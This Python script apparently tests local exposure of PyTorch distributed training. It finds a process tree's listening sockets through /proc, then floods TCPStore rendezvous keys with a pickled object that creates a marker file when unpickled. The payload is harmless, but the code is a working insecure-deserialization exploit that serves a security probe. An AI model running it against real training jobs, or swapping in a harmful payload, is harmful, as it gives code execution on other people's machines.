"""What another process on the machine or the network can reach of a run: its listening sockets and their stores.

As a program it attacks stores: `python hostile_client.py MARKER PORT,PORT... PID...` puts pickled code that creates
MARKER where PyTorch's rendezvous would unpickle it, and prints on how many ports a store took it.
"""

import multiprocessing
import os
import pickle
import sys
import time
from base64 import b64encode
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

LOOPBACK = "127.0.0.1"
_LISTEN = "0A"


def process_tree(root: int) -> list[int]:
    """A process and all below it."""
    parents: dict[int, int] = {}
    for path in Path("/proc").glob("[0-9]*/stat"):
        with suppress(OSError):
            parents[int(path.parent.name)] = int(path.read_text().rpartition(")")[2].split()[1])
    tree = [root]
    for pid in tree:
        tree += [child for child, parent in parents.items() if parent == pid]
    return tree


def is_running(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return False


def listening(pids: list[int]) -> dict[int, str]:
    """Port and address of every TCP socket on which the processes listen; an IPv6 address in hexadecimal."""
    inodes = set()
    for pid in pids:
        with suppress(OSError):
            for path in Path(f"/proc/{pid}/fd").iterdir():
                with suppress(OSError):
                    inodes.add(path.readlink().name.removeprefix("socket:[").removesuffix("]"))
    sockets = {}
    for table in ("tcp", "tcp6"):
        path = Path(f"/proc/net/{table}")
        for line in path.read_text().splitlines()[1:] if path.exists() else []:
            fields = line.split()
            if fields[3] == _LISTEN and fields[9] in inodes:
                address, _, port = fields[1].rpartition(":")
                sockets[int(port, 16)] = ".".join(map(str, bytes.fromhex(address)[::-1])) if table == "tcp" else address
    return sockets


class _Code:
    """Creates a file when it is unpickled."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return (Path.touch, (Path(self.path),))


def attack(port: int, marker: str, pids: list[str]) -> None:
    """Write the pickle under every key that a rendezvous may read, again and again for two seconds."""
    import torch.distributed as dist

    store = dist.TCPStore(LOOPBACK, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=3))
    until, taken = time.monotonic() + 2, 0
    with suppress(dist.DistNetworkError):  # a launcher that reads the attack may end, and its store with it
        while time.monotonic() < until:
            keys = {f"torch.rendezvous.{name}" for name in ("triptych", *(f"triptych-{pid}" for pid in pids))}
            for key in keys | {key for key in store.list_keys() if "rendezvous" in key}:
                store.set(key, b64encode(pickle.dumps(_Code(marker))).decode())
                taken += 1
            time.sleep(0.05)
    os._exit(int(taken == 0))


def main() -> None:
    import torch.distributed  # noqa: F401 (before the processes)

    context = multiprocessing.get_context("fork")
    # A process each: where no store listens, the client hangs with Python's lock, or fails.
    processes = [
        context.Process(target=attack, args=(int(port), sys.argv[1], sys.argv[3:]), daemon=True)
        for port in sys.argv[2].split(",")
    ]
    for process in processes:
        process.start()
    until = time.monotonic() + 15
    for process in processes:
        process.join(max(0.0, until - time.monotonic()))
    print(sum(process.exitcode == 0 for process in processes), flush=True)
    for process in processes:
        process.kill()
    os._exit(0)


if __name__ == "__main__":
    main()
